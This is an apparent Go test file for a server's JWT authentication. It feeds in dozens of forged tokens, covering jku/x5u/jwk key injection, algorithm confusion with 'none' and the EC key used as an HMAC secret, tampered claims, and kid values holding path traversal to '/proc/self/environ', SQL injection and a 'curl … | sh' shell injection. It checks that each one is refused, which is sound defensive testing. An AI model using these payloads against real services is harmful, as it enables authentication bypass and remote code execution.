package server_test

import (
	"crypto/ecdsa"
	"crypto/x509"
	"encoding/json"
	"encoding/pem"
	"fmt"
	"net/http"
	"net/http/httptest"
	"net/url"
	"strings"
	"testing"
	"time"

	"github.com/golang-jwt/jwt/v5"

	"github.com/calloutd/callout"
	"github.com/calloutd/callout/internal/wire"
)

// TestATokenThatTellsTheServerHowToVerifyItIsRefused: the attacks by token that are not in tokens_test.go. Nothing that a token
// names is ever fetched.
func TestATokenThatTellsTheServerHowToVerifyItIsRefused(t *testing.T) {
	f := openFort(t)
	evil := newIssuer(t)
	evil.add("evil", "RS256")
	evil.add("rsa", "RS256") // the name of a good key
	trap := httptest.NewServer(http.HandlerFunc(func(_ http.ResponseWriter, r *http.Request) {
		t.Errorf("%s was fetched because a token says so", r.URL)
	}))
	t.Cleanup(trap.Close)

	claims := func(change jwt.MapClaims) jwt.MapClaims {
		all := jwt.MapClaims{"sub": "c-1", "role": "operator", "aud": audience, "iss": origin, "exp": time.Now().Add(time.Hour).Unix()}
		for name, value := range change {
			all[name] = value
		}
		return all
	}
	// forge is a token by another's key, with these headers.
	forge := func(headers map[string]any) string {
		token := jwt.NewWithClaims(jwt.SigningMethodRS256, claims(nil))
		for name, value := range headers {
			token.Header[name] = value
		}
		text, err := token.SignedString(evil.keys["evil"])
		if err != nil {
			t.Fatal(err)
		}
		return text
	}
	// text is a token of any header and body, by the secret unless its algorithm is another.
	text := func(header, body string) string {
		signing := b64([]byte(header)) + "." + b64([]byte(body))
		signature, err := jwt.SigningMethodHS256.Sign(signing, secret)
		if err != nil {
			t.Fatal(err)
		}
		return signing + "." + b64(signature)
	}
	const hs256 = `{"alg":"HS256","typ":"JWT"}`
	body, err := json.Marshal(claims(nil))
	if err != nil {
		t.Fatal(err)
	}
	with := func(keys string) string { return strings.TrimSuffix(string(body), "}") + keys + "}" }
	good := strings.Split(text(hs256, string(body)), ".")
	jwk := map[string]string{}
	for key, value := range evil.public["evil"] {
		jwk[key] = value
	}
	ec := f.tokens.keys["ec"].Public().(*ecdsa.PublicKey)
	der, err := x509.MarshalPKIXPublicKey(ec)
	if err != nil {
		t.Fatal(err)
	}
	point, err := ec.Bytes()
	if err != nil {
		t.Fatal(err)
	}
	bySecretOf := func(key []byte, kid string) string { return signed(t, jwt.SigningMethodHS256, key, kid, claims(nil)) }
	unsignedBy := func(alg string) string { return b64([]byte(`{"alg":"`+alg+`","kid":"ec"}`)) + "." + good[1] + "." }

	// The name of an unknown key has the good keys fetched anew, once in a while. Until the next time its token may be good.
	const unknownKey = wire.Overloaded
	table := map[string]struct {
		token string
		want  wire.CloseCode
	}{
		"jku: the attacker's key set":            {forge(map[string]any{"jku": trap.URL + "/jwks", "kid": "evil"}), unknownKey},
		"jku beside a good key's name":           {forge(map[string]any{"jku": evil.url, "kid": "rsa"}), wire.Unauthenticated},
		"x5u: the attacker's certificate":        {forge(map[string]any{"x5u": trap.URL + "/cert.pem", "kid": "rsa"}), wire.Unauthenticated},
		"jwk: the attacker's key itself":         {forge(map[string]any{"jwk": jwk, "kid": "evil"}), unknownKey},
		"jwk without a name":                     {forge(map[string]any{"jwk": jwk}), wire.Unauthenticated},
		"x5c: the attacker's certificate itself": {forge(map[string]any{"x5c": []string{"MIIB"}, "kid": "rsa"}), wire.Unauthenticated},
		"iss: the attacker's":                    {signed(t, jwt.SigningMethodRS256, evil.keys["rsa"], "rsa", claims(jwt.MapClaims{"iss": trap.URL})), wire.Unauthenticated},
		"kid: a file":                            {forge(map[string]any{"kid": "../../../../dev/null"}), unknownKey},
		"kid: an absolute file":                  {forge(map[string]any{"kid": "/proc/self/environ"}), unknownKey},
		"kid: SQL":                               {forge(map[string]any{"kid": "x' UNION SELECT 'secret' --"}), unknownKey},
		"kid: a shell":                           {forge(map[string]any{"kid": "x; curl " + trap.URL + " | sh #"}), unknownKey},
		"kid: a URL":                             {forge(map[string]any{"kid": trap.URL + "/key"}), unknownKey},
		"kid: a good one and NUL":                {forge(map[string]any{"kid": "rsa\x00evil"}), unknownKey},
		"kid: empty":                             {forge(map[string]any{"kid": ""}), unknownKey},
		"kid: a list":                            {forge(map[string]any{"kid": []string{"rsa"}}), wire.Unauthenticated},
		"kid: an object":                         {forge(map[string]any{"kid": map[string]string{"$ne": ""}}), wire.Unauthenticated},
		"kid: a file, as the secret's":           {bySecretOf(nil, "/dev/null"), wire.Unauthenticated},
		"alg: the EC key as secret, DER":         {bySecretOf(der, "ec"), wire.Unauthenticated},
		"alg: the EC key as secret, PEM":         {bySecretOf(pem.EncodeToMemory(&pem.Block{Type: "PUBLIC KEY", Bytes: der}), "ec"), wire.Unauthenticated},
		"alg: the EC key as secret, point":       {bySecretOf(point, "ec"), wire.Unauthenticated},
		"alg: the empty secret":                  {bySecretOf(nil, ""), wire.Unauthenticated},
		"alg: none, in small and large":          {unsignedBy("nOnE"), wire.Unauthenticated},
		"alg: none, signed":                      {b64([]byte(`{"alg":"none"}`)) + "." + good[1] + "." + good[2], wire.Unauthenticated},
		"alg: empty":                             {unsignedBy(""), wire.Unauthenticated},
		"alg: ES256, a signature of nothing":     {unsignedBy("ES256"), wire.Unauthenticated},
		"alg: ES256, a signature of zeros":       {unsignedBy("ES256") + b64(make([]byte, 64)), wire.Unauthenticated},
		"alg: RS256, a signature of zeros":       {b64([]byte(`{"alg":"RS256","kid":"rsa"}`)) + "." + good[1] + "." + b64(make([]byte, 256)), wire.Unauthenticated},
		"alg: a list":                            {text(`{"alg":["HS256","none"]}`, string(body)), wire.Unauthenticated},
		"alg: twice":                             {text(`{"alg":"HS256","alg":"none"}`, string(body)), wire.Unauthenticated},
		"alg: in small":                          {text(`{"alg":"hs256"}`, string(body)), wire.Unauthenticated},
		"an encrypted token's five parts":        {strings.Join(good, ".") + ".AAAA.AAAA", wire.Unauthenticated},
		"another's signature":                    {good[0] + "." + good[1] + "." + strings.Split(tokenOf("c-8", callout.Client), ".")[2], wire.Unauthenticated},
		"a signature cut short":                  {good[0] + "." + good[1] + "." + good[2][:20], wire.Unauthenticated},
		"a signature with more behind it":        {strings.Join(good, ".") + "AAAA", wire.Unauthenticated},
		"claims twice":                           {good[0] + "." + good[1] + good[1] + "." + good[2], wire.Unauthenticated},
		"claims that are a list":                 {text(hs256, `["c-1"]`), wire.Unauthenticated},
		"claims that are no JSON":                {text(hs256, `sub=c-1&role=operator`), wire.Unauthenticated},
		"a token of 60 KiB":                      {goodToken(jwt.MapClaims{"x": strings.Repeat("x", 40<<10)}) + "x", wire.Unauthenticated},
		"a token of dots":                        {strings.Repeat(".", 60<<10), wire.Unauthenticated},
		"a token of line breaks":                 {"\r\n" + strings.Join(good, ".") + "\r\n", wire.Unauthenticated},
		"a bearer's":                             {"Bearer " + strings.Join(good, "."), wire.Unauthenticated},
		"aud: one that begins alike":             {text(hs256, with(`,"aud":"callouts"`)), wire.Unauthenticated},
		"aud: in capitals":                       {text(hs256, with(`,"aud":"CALLOUT"`)), wire.Unauthenticated},
		"aud: an object":                         {text(hs256, with(`,"aud":{"callout":true}`)), wire.Unauthenticated},
		"aud: an empty list":                     {text(hs256, with(`,"aud":[]`)), wire.Unauthenticated},
		"iss: one that begins alike":             {text(hs256, with(`,"iss":"https://login.evil.example"`)), wire.Unauthenticated},
		"exp: null":                              {text(hs256, with(`,"exp":null`)), wire.Unauthenticated},
		"exp: a list":                            {text(hs256, with(`,"exp":[9999999999]`)), wire.Unauthenticated},
		"exp: negative":                          {text(hs256, with(`,"exp":-1`)), wire.TokenExpired},
		"nbf: in an hour":                        {text(hs256, with(fmt.Sprintf(`,"nbf":%d`, time.Now().Add(time.Hour).Unix()))), wire.Unauthenticated},
		"sub: a list":                            {text(hs256, with(`,"sub":["c-1"]`)), wire.Unauthenticated},
		"sub: an object":                         {text(hs256, with(`,"sub":{"$ne":null}`)), wire.Unauthenticated},
		"sub: the system's":                      {text(hs256, with(`,"sub":"system"`)), wire.Forbidden},
		"sub: with a line break":                 {text(hs256, with(`,"sub":"c-1\n"`)), wire.Forbidden},
		"sub: with NUL":                          {text(hs256, with(`,"sub":"c-1\u0000"`)), wire.Forbidden},
		"sub: with a blank":                      {text(hs256, with(`,"sub":" c-1"`)), wire.Forbidden},
		"sub: a letter that looks alike":         {text(hs256, with(`,"sub":"с-1"`)), wire.Forbidden},
		"sub: SQL":                               {text(hs256, with(`,"sub":"' OR 1=1 --"`)), wire.Forbidden},
		"role: the system's":                     {text(hs256, with(`,"role":"system"`)), wire.Forbidden},
		"role: in capitals":                      {text(hs256, with(`,"role":"OPERATOR"`)), wire.Forbidden},
		"role: with a blank":                     {text(hs256, with(`,"role":"operator "`)), wire.Forbidden},
		"role: empty":                            {text(hs256, with(`,"role":""`)), wire.Forbidden},
		"role: a list":                           {text(hs256, with(`,"role":["operator"]`)), wire.Forbidden},
		"role: under a key in capitals":          {text(hs256, `{"sub":"c-1","ROLE":"operator","aud":"callout","iss":"https://login","exp":9999999999}`), wire.Forbidden},
		"sub: under a key in capitals":           {text(hs256, `{"SUB":"c-1","role":"operator","aud":"callout","iss":"https://login","exp":9999999999}`), wire.Forbidden},
	}
	endsWith(t, present(f.Server, forge(map[string]any{"kid": "evil"})), wire.Unauthenticated)
	before := f.holdings()
	for name, test := range table {
		t.Run(name, func(t *testing.T) {
			f := f.in(t)
			endsWith(t, present(f.Server, test.token), test.want)
			status, body, _ := get(t, f.URL+"/order?userId=c-1&token="+url.QueryEscape(test.token))
			long := len(test.token) > 16<<10 // more than a request's head may have
			if want := map[wire.CloseCode]int{wire.Unauthenticated: 401, wire.TokenExpired: 401, wire.Forbidden: 403, unknownKey: 503}[test.want]; !long && status != want {
				t.Errorf("in the classic dialect the answer is %d %s, not %d", status, body, want)
			}
			if long && status != http.StatusRequestHeaderFieldsTooLarge {
				t.Errorf("in the classic dialect the answer is %d %s", status, body)
			}
			f.unharmed(before)
		})
	}
	evil.mu.Lock()
	defer evil.mu.Unlock()
	if evil.fetches > 0 {
		t.Errorf("the attacker's keys were fetched %d times", evil.fetches)
	}
	admitted(t, f.Server, strings.Join(good, "."), "c-1", callout.Operator)
}
